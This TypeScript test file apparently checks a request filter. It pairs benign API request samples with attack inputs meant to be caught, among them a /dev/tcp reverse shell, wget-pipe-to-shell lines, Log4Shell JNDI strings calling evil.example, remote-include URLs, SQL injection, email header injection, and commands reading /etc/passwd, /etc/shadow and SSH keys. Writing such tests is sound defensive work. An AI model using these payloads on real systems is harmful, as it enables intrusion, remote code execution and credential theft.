import { asked, filled, type HonestKinds, posted, sent, testKinds } from './honest-kinds.ts'

const MAIL = [
  'From: Shop <shop@example.com>',
  'To: ann@example.com',
  'Subject: Your order',
  'MIME-Version: 1.0',
  'Content-Type: multipart/alternative; boundary="b1"',
  '',
  '--b1',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<p>Thanks</p>',
  '--b1--',
  '',
].join('\r\n')
const PACKED = Buffer.from(MAIL).toString('base64')

const ZONE = 'BEGIN:VCALENDAR\nVERSION:2.0\nBEGIN:VTIMEZONE\nTZID:Europe/Prague\nEND:VTIMEZONE\nEND:VCALENDAR'
const QUOTED = '### Impact\nA template such as `${eval(name)}` runs in the page.'

function dav(name: string, value: string): ReturnType<typeof posted> {
  return posted('application/xml', `<a xmlns="DAV:"><set><prop><${name}>${value}</${name}></prop></set></a>`)
}

/** Kinds of what products send each other, and what stays an attack beside each. */
const KINDS: HonestKinds = {
  'whole mails, as Amazon SES, SparkPost and Exchange take and send them': {
    honest: [
      filled({ Action: 'SendRawEmail', 'RawMessage.Data': PACKED }),
      sent({ Content: { Raw: { Data: PACKED } } }),
      sent({ RawMessage: { Data: PACKED } }),
      sent([{ msys: { relay_message: { content: { email_rfc822: MAIL } } } }]),
      sent({ mimeContent: PACKED }),
      posted(
        'text/xml',
        `<m xmlns:t="urn:t"><t:MimeContent CharacterSet="UTF-8">${PACKED}</t:MimeContent></m>`,
      ),
    ],
    attacks: [
      filled({ email: 'x\r\nBcc: all@evil.example' }),
      filled({ data: PACKED }),
      sent({ Content: { Raw: { Data: Buffer.from('${jndi:ldap://evil.example/a}').toString('base64') } } }),
      sent({ data: '\r\nBcc: all@evil.example' }),
    ],
  },
  'advisories that quote an attack': {
    honest: [
      sent({ action: 'published', security_advisory: { summary: 'XSS', description: QUOTED } }),
      sent({ alert: { security_advisory: { description: QUOTED } } }),
      sent({ repository_advisory: { description: QUOTED } }),
      filled({ payload: JSON.stringify({ alert: { security_advisory: { description: QUOTED } } }) }),
      filled({ payload: JSON.stringify({ commits: [{ message: `Fix ${QUOTED}` }] }) }),
    ],
    attacks: [
      filled({ payload: JSON.stringify({ security_advisory: { name: QUOTED } }) }),
      filled({ payload: JSON.stringify({ commits: [{ message: '${jndi:ldap://evil.example/a}' }] }) }),
      filled({ message: QUOTED }),
      sent({ security_advisory: { description: '${jndi:ldap://evil.example/a}' } }),
      sent({ advisory: { name: '`${eval(name)}`' } }),
      sent({ advisory: { description: "' or 1=1--" } }),
      filled({ 'security_advisory.description': '`${eval(name)}`' }),
    ],
  },
  'the time zone of a calendar': {
    honest: [dav('c:calendar-timezone', ZONE), dav('calendar-timezone', ZONE)],
    attacks: [filled({ timezone: 'UTC\nServerAlias: x' }), sent({ timezone: 'UTC\nServerAlias: x' })],
  },
  'what runs on YARN': {
    honest: [
      asked('/ws/v1/cluster/apps/application_1462754318084_0071/state', {}),
      asked('/ws/v1/cluster/apps/application_1462754318084_0071/appattempts', {}),
    ],
    attacks: [
      posted('application/json', '', '/ws/v1/cluster/apps/new-application'),
      posted('application/json', '{"application-id":"a"}', '/ws/v1/cluster/apps'),
      ...[
        '/',
        ';a=b',
        '//',
        '//new-application',
        ';a=b/new-application',
        '/application_1462754318084_0071/../new-application',
        '/application_1462754318084_0071;/../new-application',
        '/new-application;a=b',
        '/%20',
      ].map(rest => posted('application/json', '{"application-id":"a"}', `/ws/v1/cluster/apps${rest}`)),
    ],
  },
  'words that begin as a command of Windows does': {
    honest: [
      asked('/search', { q: 'If defined in the intent, Amazon Lex invokes this function' }),
      filled({ title: 'If defined in Appendix A, it applies' }),
      filled({ title: 'If not defined by the host, nothing happens' }),
    ],
    attacks: [
      filled({ title: 'if defined PATH calc' }),
      filled({ title: 'if not defined in calc' }),
      filled({ title: 'IF NOT DEFINED by  calc.exe' }),
      filled({ title: 'if not defined in the & whoami' }),
    ],
  },
  'functions that somebody added, wildcards of Java, names of packages, years': {
    honest: [
      asked('/search', { q: 'Introduced a new function (`tjGetErrorStr2()`) in the API' }),
      filled({ title: 'List<? extends T> or List<? super T>' }),
      filled({ title: 'libxmu6{,-dbg} and libfontenc1{,-dbg} need no x11-common' }),
      filled({ title: 'Two reports; benchmark (2026)' }),
    ],
    attacks: [
      filled({ title: 'new Function ("x")' }),
      filled({ title: 'x of new Function (atob(a))' }),
      filled({ title: '<? system($a) ?>' }),
      filled({ title: '<? super or system($a) ?>' }),
      filled({ title: '<? super .system($a) ?>' }),
      filled({ title: 'ls{,-lh}' }),
      filled({ title: 'x{l,-lh}s' }),
      filled({ title: 'x;netstat{,-an}' }),
      filled({ title: '$(reboot{,-f})' }),
      filled({ title: 'netstat{,-an}' }),
      filled({ title: '1;benchmark(2026,md5(1))' }),
    ],
  },
  'addresses in settings, cursors and constants': {
    honest: [
      filled({ 'config[url]': 'https://shop.example/hook', 'config[content_type]': 'json' }),
      filled({ 'settings[instance_url]': 'https://eu28.crm.example' }),
      filled({ 'server[flavorRef]': 'https://cloud.example/flavors/1' }),
      asked('/items', { after: 'Y3Vyc29yOnYyOpK5MjAyMS0wNS0wMVQwNTozMzoxMSswMjowMM4AM5XH' }),
      asked('/items', { visibility: 'PUBLIC_READ' }),
      asked('/items', { page_token: 'ChNwcm9qZWN0cy9wL2l0ZW1zLzc3EhQyMDI2LTAxLTAxVDEwOjAwOjAwWg' }),
    ],
    attacks: [
      filled({ 'config[url]': 'http://evil.example/shell.txt?' }),
      filled({ 'config[root]': 'https://evil.example/' }),
      filled({ 'config[url_path]': 'https://evil.example/' }),
      filled({ '_config[url]': 'https://evil.example/' }),
      filled({ 'GLOBALS[url]': 'https://evil.example/' }),
      asked('/items', { after: 'ann\n2026-01-01 10:00:00 login ok' }),
      asked('/items', { after: Buffer.from('ann\n2026-01-01 10:00:00 login ok').toString('base64') }),
      asked('/items', { after: Buffer.from("cursor:v2:\u0092' or 1=1--").toString('base64') }),
      filled({ 'config[lib_path_url]': 'http://evil.example/x' }),
      filled({ 'settings[include_url]': 'http://evil.example/x' }),
      filled({ 'conf[template_url]': 'http://evil.example/x' }),
    ],
  },
  'remarks in files of settings, and calls of Lua and BrightScript': {
    honest: [
      filled({ text: '; last modified 1 April 2001 by John Doe\n[owner]\nname = John Doe' }),
      filled({ title: '; date of 1 May' }),
      filled({ title: 'a = 1\n; set the time 5\nb = 1' }),
      filled({ description: 'n = io.read("*n")' }),
      filled({ description: 'CreateObject("roSGScreen")' }),
    ],
    attacks: [
      filled({ title: '; last' }),
      filled({ title: '; date' }),
      filled({ title: '; host evil.example x' }),
      filled({ title: '; set a b; id' }),
      filled({ title: '; last a b | sh' }),
      filled({ title: '; last a b > /tmp/x' }),
      filled({ title: '; date x y `id`' }),
      filled({ title: '; who am i' }),
      filled({ description: "IO.read('n/../x')" }),
      filled({ description: 'IO.read("/etc/passwd")' }),
      filled({ description: 'CreateObject("wscript.shell")' }),
    ],
  },
  'choices of a switch, and how an image was built': {
    honest: [
      filled({ title: '--compress=no|xz|gz|lzo' }),
      filled({ title: 'none|gzip|bzip2' }),
      sent({ history: [{ created_by: '/bin/sh -c wget "$base/$(printf \'%03d\' 5)"; rm -rf /tmp/x' }] }),
    ],
    attacks: [
      filled({ title: 'x|xz -d /etc/shadow' }),
      filled({ title: 'x|gzip -c /etc/passwd' }),
      filled({ title: '$(gzip -c /etc/passwd)' }),
      sent({ history: [{ created_by: 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1' }] }),
      sent({ history: [{ name: 'x; wget http://198.51.100.7/a | sh' }] }),
      sent({ history: [{ created_by: "ann'; wget http://198.51.100.7/a -O /tmp/a #" }] }),
      sent({ history: [{ created_by: '; cat /etc/passwd' }] }),
      sent({ history: [{ created_by: "COPY x FROM PROGRAM 'id'" }] }),
      sent({ history: [{ created_by: "COPY (SELECT '* * * * * root id') TO '/etc/cron.d/x'" }] }),
    ],
  },
  'functions of mathematics, and functions that somebody looks for': {
    honest: [
      asked('/search', { q: 'sin(x)' }),
      asked('/plot', { f: 'exp(-x)', y: 'sqrt(2x)' }),
      filled({ title: 'cos(t)' }),
      asked('/manual', { q: 'date()' }),
      asked('/manual', { search: 'sleep()' }),
      asked('/manual', { q: 'rand()' }),
    ],
    attacks: [
      asked('/items', { id: 'sin(x)' }),
      asked('/items', { sort: 'if(1=1,id,name)&x' }),
      asked('/items', { id: '5&7=7#' }),
      asked('/items', { sort_by: 'rand()' }),
      asked('/items', { order: 'rand()' }),
      asked('/items', { order: 'exp(x)' }),
      asked('/items', { sort: 'sin(x)' }),
      asked('/items', { group_by: 'round(x)' }),
      asked('/search', { q: 'sleep(5)' }),
      asked('/search', { q: 'exp(710)' }),
      asked('/search', { q: 'exp(~x)' }),
      asked('/search', { q: 'version()' }),
      asked('/search', { q: 'sin(x) or 1=1' }),
      asked('/search', { q: "sin(x)' or '1'='1" }),
      asked('/search', { q: 'concat(0x3a,version())' }),
    ],
  },
  'translations that begin with a line end': {
    honest: [
      sent([{ source: '\nReport bugs to <%s>.\n', target: '\nSegnala i bug a <%s>.\n' }]),
      posted('application/xml', '<unit><target>\nIndice del archivo:\n</target></unit>'),
      filled({ target: '\nArchive index:\n' }),
    ],
    attacks: [
      sent({ target: '\ncat /etc/passwd' }),
      filled({ target: '\nping -c 1 evil.example' }),
      filled({ target: '\nid' }),
      filled({ target: '\nJps;id' }),
      filled({ target: '|Whoami' }),
      // PowerShell, and macOS, know no case.
      ...[
        'Whoami',
        'Get-ChildItem',
        'Stop-Computer',
        'Iex x',
        'Curl evil.example',
        'Dir C:\\',
        'Ping evil',
      ].map(command => filled({ target: `\n${command}` })),
      ...['host', 'ip', 'id', 'domain'].map(name => filled({ [name]: '\nWho is it' })),
    ],
  },
  'a file of the server in a sentence': {
    honest: [
      asked('/search', { q: "It cannot open '/proc/self/stat' on startup" }),
      filled({ title: 'Please edit the file /etc/sysctl.d/99-x first' }),
      filled({ label: 'We moved from /var/lib/postgresql to another disk' }),
    ],
    attacks: [
      asked('/search', { q: '/proc/self/stat' }),
      asked('/search', { q: 'cat /proc/version' }),
      asked('/search', { q: 'one two\n/proc/version' }),
      asked('/search', { q: 'one two `cat /proc/version`' }),
      asked('/search', { q: 'one two $(</proc/version)' }),
      asked('/search', { q: 'one two ; cat /proc/version' }),
      asked('/search', { q: 'one two > /var/www/x' }),
      asked('/search', { q: 'one two ../../proc/version' }),
      asked('/search', { q: 'one two /proc/version%00.png' }),
      asked('/search', { q: 'please read /proc/self/environ' }),
      asked('/search', { q: 'please read the /etc/passwd' }),
      asked('/search', { q: 'please read the /etc/shadow here' }),
      asked('/search', { q: 'please read the /root/.ssh/id_rsa' }),
      asked('/search', { file: 'one two /proc/version' }),
      asked('/search', { page: 'one two /proc/version' }),
      asked('/search', { id: 'one two /proc/version' }),
      filled({ cmd: 'one two /proc/version' }),
      filled({ code: 'puts one two /proc/version' }),
      asked('/search', { q: 'cat one two /proc/version' }),
      asked('/search', { q: 'one two -f /etc/fstab' }),
      asked('/search', { q: 'one two x:///var/run/docker.sock' }),
      asked('/search', { q: 'one two file:///proc/version' }),
      asked('/search', { q: 'one two /var/run/docker.sock' }),
      asked('/search', { q: 'curl one -T two /etc/fstab' }),
      asked('/search', { q: "copy users from '/etc/fstab'" }),
      asked('/search', { q: 'load data local infile "/etc/fstab"' }),
    ],
  },
}

testKinds(KINDS)
